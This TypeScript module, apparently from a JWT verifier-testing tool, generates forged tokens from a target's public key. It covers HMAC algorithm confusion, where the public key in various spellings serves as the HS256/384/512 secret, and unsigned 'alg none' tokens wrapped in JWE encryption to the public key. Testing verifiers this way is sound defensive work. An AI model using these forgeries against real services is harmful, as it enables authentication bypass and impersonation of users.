import { constants, createCipheriv, publicEncrypt, randomBytes } from "node:crypto";
import type { Jwk } from "../../model/jwt.ts";
import { type Forgery, given, goodOf, type Material, underHeader } from "./forgery.ts";
import { compact, part } from "./jws.ts";
import { keyOf, spellingsOf } from "./public-keys.ts";

const A_PUBLIC_KEY = "the public key";

/** The good claims, signed by an HMAC whose key is a spelling of the public key. */
function keyedWith(material: Material, algorithms: readonly ("HS256" | "HS384" | "HS512")[], most?: number) {
  const good = goodOf(material);
  const spellings = spellingsOf(given(material.publicKey, A_PUBLIC_KEY), material.publicKeyText).slice(0, most);
  return algorithms.flatMap((alg) =>
    spellings.map(([name, key]) => ({
      token: underHeader(good, { ...good.headers, alg }, alg, key),
      how: `${alg} keyed with the public key as ${name}`,
    })),
  );
}

/** A text, encrypted to a public key: a compact JWE (RFC 7516 §7.1), which has five parts. */
function encrypted(text: string, jwk: Jwk): string {
  const header = part({
    alg: "RSA-OAEP-256",
    enc: "A256GCM",
    cty: "JWT",
    ...(jwk.kid !== undefined && { kid: jwk.kid }),
  });
  const contentKey = randomBytes(32);
  const vector = randomBytes(12);
  const cipher = createCipheriv("aes-256-gcm", contentKey, vector).setAAD(Buffer.from(header));
  const content = Buffer.concat([cipher.update(text), cipher.final()]);
  const padding = constants.RSA_PKCS1_OAEP_PADDING;
  const key = publicEncrypt({ key: keyOf(jwk), padding, oaepHash: "sha256" }, contentKey);
  const parts = [key, vector, content, cipher.getAuthTag()].map((bytes) => bytes.toString("base64url"));
  return [header, ...parts].join(".");
}

/** Tokens that somebody made who knows the target's public key, as everybody may. */
export const PUBLIC_KEY_ABUSE = {
  "hs256-keyed-with-the-public-key": {
    says: "a good JWT's claims under HS256, keyed with the public key in each of its usual spellings",
    needs: ["public-key"],
    forge: (material) => keyedWith(material, ["HS256"]),
  },
  "longer-hmac-keyed-with-the-public-key": {
    says: "a good JWT's claims under HS384 and HS512, keyed with the public key in PEM",
    needs: ["public-key"],
    forge: (material) => keyedWith(material, ["HS384", "HS512"], 2),
  },
  "encrypted-to-the-public-key": {
    says: "a good JWT's claims in five segments: encrypted to the public key, and signed by nobody",
    needs: ["public-key"],
    forge(material) {
      const { payload, claims, headers } = goodOf(material);
      const unsigned = compact({ header: part({ ...headers, alg: "none" }), payload, signature: "" });
      const jwk = given(material.publicKey, A_PUBLIC_KEY);
      return [
        { token: encrypted(unsigned, jwk), how: "encrypted to the public key, alg none inside" },
        { token: encrypted(JSON.stringify(claims), jwk), how: "its claims encrypted to the public key" },
      ];
    },
  },
} as const satisfies Record<string, Forgery>;
